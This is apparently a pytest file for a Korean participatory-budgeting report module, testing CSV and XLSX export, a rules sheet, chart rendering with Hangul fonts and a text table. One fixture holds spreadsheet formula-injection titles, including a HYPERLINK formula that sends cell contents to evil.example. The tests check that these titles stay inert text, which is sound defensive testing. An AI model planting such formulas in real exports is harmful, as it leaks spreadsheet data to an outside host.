"""CSV, XLSX and chart of the results; the text table."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import warnings
from decimal import Decimal
from pathlib import Path

import matplotlib
import pytest
from openpyxl import load_workbook
from PIL import Image

from i18n import Catalog
from participation import report
from participation.domain.rules import kst_text
from participation.sheets import FontMissing
from participation.tally import Results
from participation.tally import tally
from tests.participation.tally_ledger import LedgerBuilder
from tests.participation.tally_ledger import rules
from tests.participation.test_tally import four_proposals

CATALOG = Catalog.load()
TITLES = {"r1-1": "행복마을 텃밭 가꾸기", "r1-2": "골목 벽화"}
DIGEST_BEFORE_NUMBERS = "974e72d6381b1454e3c5934294fd0a5f77973afe6b3d8d4c4714cec9514e0d45"


@pytest.fixture(scope="module")
def results():
    return tally(four_proposals().leaves)


@pytest.mark.parametrize("locale", ["ko", "en"])
def test_csv_has_translated_headers_and_one_line_per_ranked_proposal(results, tmp_path, locale):
    path = tmp_path / "results.csv"
    report.write_csv(results, path, CATALOG, locale, TITLES)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheet programs then read UTF-8
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert lines[0] == report.headers(CATALOG, locale)
    assert lines[0][0] == {"ko": "순위", "en": "Rank"}[locale]
    assert [line[1] for line in lines[1:]] == list(results.ranking)  # the id stays second
    first = dict(zip(report.COLUMNS, lines[1], strict=True))
    # residents know a proposal as "#1" (its card, its receipt): that column is beside the id
    assert lines[0][2] == {"ko": "번호", "en": "No."}[locale]
    assert [line[2] for line in lines[1:]] == ["#" + p.rsplit("-", 1)[1] for p in results.ranking]
    assert (first["combined"], first["judges"], first["budget"]) == ("76.50", "90.00", "4000000")
    assert first["title"] == "행복마을 텃밭 가꾸기"
    assert first["decision"] == {"ko": "선정", "en": "Selected"}[locale]


def test_xlsx_round_trips_through_openpyxl(results, tmp_path):
    path = tmp_path / "results.xlsx"
    report.write_xlsx(results, path, CATALOG, "ko", TITLES)
    book = load_workbook(path)
    assert book.sheetnames == ["결과", "규칙"]
    sheet = book["결과"]
    table = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert table[0] == report.headers(CATALOG, "ko")
    assert len(table) == 1 + len(results.rows)
    for written, row in zip(table[1:], results.rows, strict=True):
        expected = report.row_values(row, CATALOG, "ko", TITLES)
        for column, got, want in zip(report.COLUMNS, written, expected, strict=True):
            if isinstance(want, Decimal):
                assert Decimal(str(got)) == want, column
            elif column == "number":  # a number, so it sorts; shown as "#1"
                assert got == row.number and want == f"#{row.number}"
            else:
                assert (got if got is not None else "") == want, column
    budget_cell = sheet.cell(row=2, column=report.COLUMNS.index("budget") + 1)
    assert budget_cell.number_format == "#,##0"
    number_cell = sheet.cell(row=2, column=report.COLUMNS.index("number") + 1)
    assert number_cell.number_format == '"#"0' and number_cell.data_type == "n"
    assert table[0][1:3] == ["제안 ID", "번호"]
    rules_text = [row[0] for row in book["규칙"].iter_rows(values_only=True) if row[0]]
    assert any("(50×J + 30×O + 20×N)" in str(line) for line in rules_text)
    assert ("예산 한도(원)", 10_000_000, "budget_cap") in [
        tuple(row[:3]) for row in book["규칙"].iter_rows(values_only=True)
    ]


FORMULAS = {
    "r1-1": '=HYPERLINK("http://evil.example/?"&A1,"행복마을")',
    "r1-2": "+1+1",
    "r1-3": "-2+3",
    "r1-4": "@SUM(1,2)",
}


def test_a_title_written_as_a_formula_stays_text_in_the_csv(results, tmp_path):
    """Titles are what residents typed; a spreadsheet ran '=HYPERLINK(...)' as a formula."""
    path = tmp_path / "results.csv"
    report.write_csv(results, path, CATALOG, "ko", FORMULAS)
    lines = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))
    rows = [dict(zip(report.COLUMNS, line, strict=True)) for line in lines[1:]]
    for row in rows:
        assert row["title"] == "'" + FORMULAS[row["proposal"]]
        assert not row["combined"].startswith("'")  # numbers are untouched
    assert report.inert("골목 벽화") == "골목 벽화" and report.inert(-2) == -2


def test_a_title_written_as_a_formula_stays_text_in_the_xlsx(results, tmp_path):
    path = tmp_path / "results.xlsx"
    report.write_xlsx(results, path, CATALOG, "ko", FORMULAS)
    sheet = load_workbook(path)["결과"]
    column = report.COLUMNS.index("title") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert [c.value for c in cells] == [FORMULAS[p] for p in results.ranking]  # as typed
    assert {c.data_type for c in cells} == {"s"}  # text, never 'f' (a formula)
    budget = sheet.cell(row=2, column=report.COLUMNS.index("budget") + 1)
    assert budget.data_type == "n"


@pytest.mark.parametrize("locale", ["ko", "en"])
def test_xlsx_rules_sheet_reads_as_text_for_people(results, tmp_path, locale):
    """The rules sheet listed the ledger payload as it is: English keys, Unix times for the
    deadlines, Python reprs of lists and dicts ("{'judges': 50, ...}"), 'None' and False."""
    path = tmp_path / "results.xlsx"
    report.write_xlsx(results, path, CATALOG, locale, TITLES)
    sheet = load_workbook(path)[{"ko": "규칙", "en": "Rules"}[locale]]
    rows = {row[2]: row for row in sheet.iter_rows(values_only=True) if row[2]}
    r = results.rules
    when = CATALOG.text(locale, "report.rule.kst", time=kst_text(r.deadlines.review_ends))
    assert rows["deadlines.review_ends"][1] == when
    assert "KST" in when or "한국 시간" in when
    assert rows["weights.judges"][1] == r.weights.judges
    assert rows["budget_cap"][1] == r.budget_cap
    assert CATALOG.text(locale, "participation.region.suwon") in rows["regions"][1]
    assert rows["own_exclusion"][1] == CATALOG.text(
        locale, f"report.rule.{str(r.own_exclusion).lower()}"
    )
    for label, value, _key in rows.values():
        text = f"{label} {value}"
        assert not any(mark in text for mark in ("{", "[", "None", "True", "False", "_"))
        if locale == "ko":
            assert not re.search(r"[A-Za-z]{3,}", str(label)), label


def test_chart_renders_korean_without_missing_glyphs(results, tmp_path):
    path = tmp_path / "chart.png"
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a missing glyph is a UserWarning in matplotlib
        report.render_chart(results, path, CATALOG, "ko", TITLES)
    with Image.open(path) as image:
        assert image.format == "PNG"
        assert image.width > 600 and image.height > 200
        colors = image.convert("RGB").getcolors(maxcolors=1_000_000)
    assert colors is not None
    assert any(rgb == (0x1F, 0x5F, 0xA8) for _count, rgb in colors)  # the judges' bars


def test_dollar_signs_in_titles_are_text_not_matplotlib_math(results, tmp_path):
    """A resident's title like '$\\frac{a}{$' made matplotlib parse math and raise, so the
    chart, and with it the publication, failed; '$100과 $200' came out as math italics."""
    titles = {"r1-1": "예산 $100과 $200 사이", "r1-2": r"$\frac{a}{$", "r1-3": "a_b^c $x^{2$"}
    path = tmp_path / "chart.png"
    report.render_chart(results, path, CATALOG, "ko", titles)
    with Image.open(path) as image:
        assert image.format == "PNG"


def test_the_glyph_check_fails_with_a_font_lacking_hangul(results, tmp_path):
    latin_only = Path(matplotlib.get_data_path()) / "fonts" / "ttf" / "DejaVuSans.ttf"
    with pytest.warns(UserWarning, match="missing from font"):
        report.render_chart(results, tmp_path / "tofu.png", CATALOG, "ko", font=latin_only)


def test_chart_labels_name_proposals_by_their_number(results):
    """The chart named proposals by id ("r1-1"); residents know them as "#1"."""
    from matplotlib.figure import Figure
    from matplotlib.font_manager import FontProperties

    from participation.sheets import korean_font

    axes = Figure().add_subplot()
    font = FontProperties(fname=str(korean_font()))
    report._draw_bars(axes, results, results.rows, CATALOG, "ko", TITLES, font)
    labels = [label.get_text() for label in axes.get_yticklabels()]
    assert labels[0] == f"1. #{results.rows[0].number} {TITLES[results.rows[0].proposal]}"
    assert labels == [
        f"{row.rank}. #{row.number}" + (f" {t}" if (t := TITLES.get(row.proposal)) else "")
        for row in results.rows
    ]


def test_the_number_is_read_from_the_id_and_is_not_in_the_published_payload(results):
    """The number is for people; what results.published hashes is unchanged by it."""
    payload = results.to_payload()
    assert all("number" not in row for row in payload["rows"])
    assert [row.number for row in Results.from_payload(payload).rows] == [
        int(p.rsplit("-", 1)[1]) for p in results.ranking
    ]
    # the digest of this round as published before rows had a number
    assert results.sha256() == DIGEST_BEFORE_NUMBERS
    odd = dataclasses.replace(results.rows[0], proposal="legacy")
    assert odd.number is None and report.number_text(odd) == "legacy"
    assert dataclasses.replace(results.rows[0], proposal="gg-2026-12").number == 12


def test_chart_of_many_proposals_shows_the_top_rows(tmp_path):
    b = LedgerBuilder()
    b.open(rules(budget_cap=100_000_000))
    for n in range(1, 51):
        b.submit(f"r1-{n}", 1_000_000, f"r:{n}")
        b.judge("j:1", f"r1-{n}", 1 + n % 5)
    png = report.chart_png(tally(b.leaves), CATALOG, "en", max_rows=20)
    with Image.open(io.BytesIO(png)) as image:
        assert image.height < 20 * 60


def test_chart_without_a_korean_font_says_how_to_install_it(results, tmp_path):
    with pytest.raises(FontMissing, match="fonts-nanum"):
        from participation.sheets import korean_font

        report.render_chart(
            results, tmp_path / "x.png", CATALOG, font=korean_font([tmp_path / "none.ttf"])
        )


def test_text_table_aligns_korean_columns(results):
    text = report.text_table(results, CATALOG, "ko")
    lines = text.splitlines()
    assert lines[0].startswith("순위")
    widths = {report._width(line) for line in lines[2:]}
    assert len(lines) == 2 + len(results.rows)
    # every data row ends at a column boundary: the decision column is the only ragged one
    # proposals as residents know them ("#1"), not by the ledger's id ("r1-1")
    assert lines[0].split()[1] == "번호"
    assert [line.split()[1] for line in lines[2:]] == [f"#{row.number}" for row in results.rows]
    assert "r1-" not in text
    assert max(widths) <= report._width(lines[1])
    assert "76.50" in lines[2] and "예산 부족으로 건너뜀" in text


def test_names_come_from_the_catalog_when_it_has_them():
    class Texts:
        def text(self, locale, key, /, **params):
            return {"participation.region.suwon": "수원시"}.get(key, key)

    assert report.name_of(Texts(), "ko", "participation.region.suwon", "suwon") == "수원시"
    assert report.name_of(Texts(), "ko", "participation.region.x", "x") == "x"
